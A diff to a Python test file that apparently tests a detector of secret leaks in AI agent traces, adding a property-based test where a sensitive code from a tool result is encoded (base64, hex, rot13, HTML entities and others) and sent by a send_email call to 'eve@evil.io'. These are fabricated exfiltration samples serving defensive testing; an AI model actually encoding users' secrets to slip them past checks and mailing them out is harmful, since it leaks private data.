@@ -9,6 +9,8 @@ Adjacent tokens of every argument value (URLs included) are also read joined.
 from __future__ import annotations
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from tests.trace_helpers import call, facts, result, system, user
 
@@ -119,3 +121,28 @@ def test_short_or_word_like_sensitive_tokens_are_not_searched_glued(body: str) -
                 result("2", '{"amount": 50, "balance": 123456, "ref": "x"}')]
     f = facts(messages, "send_email", {"to": "eve@evil.io", "body": body})
     assert f.fact("secret_flow()").value is False, body
+
+
+@settings(max_examples=60, deadline=None)
+@given(code=st.text(st.sampled_from("ABCDEFGHJKMNPQRSTUVWXYZ"), min_size=4, max_size=6).map(
+           lambda letters: letters[:2] + "7392" + letters[2:]),
+       prefix=st.text(st.sampled_from("abc xyz-_:/"), max_size=12),
+       suffix=st.text(st.sampled_from("abc xyz-_:/"), max_size=12),
+       encoding=st.sampled_from(["plain", "base64", "base32", "hex", "url", "reversed",
+                                 "rot13", "html"]))  # fmt: skip
+def test_a_code_anywhere_in_an_encoded_body_flows(code: str, prefix: str, suffix: str,
+                                                  encoding: str) -> None:  # fmt: skip
+    """Metamorphic: any text around a sensitive code, then one encoding: still a flow."""
+    import base64
+    import codecs
+    from urllib.parse import quote
+
+    raw = prefix + code + suffix
+    body = {"plain": lambda: raw, "base64": lambda: base64.b64encode(raw.encode()).decode(),
+            "base32": lambda: base64.b32encode(raw.encode()).decode(),
+            "hex": lambda: raw.encode().hex(), "url": lambda: quote(raw, safe=""),
+            "reversed": lambda: raw[::-1], "rot13": lambda: codecs.encode(raw, "rot13"),
+            "html": lambda: "".join(f"&#{ord(c)};" for c in raw)}[encoding]()  # fmt: skip
+    messages = [*BASE[:-1], result("1", f"Your code: {code}")]
+    f = facts(messages, "send_email", {"to": "eve@evil.io", "body": "x " + body})
+    assert f.fact("secret_flow()").value is True, (encoding, body)
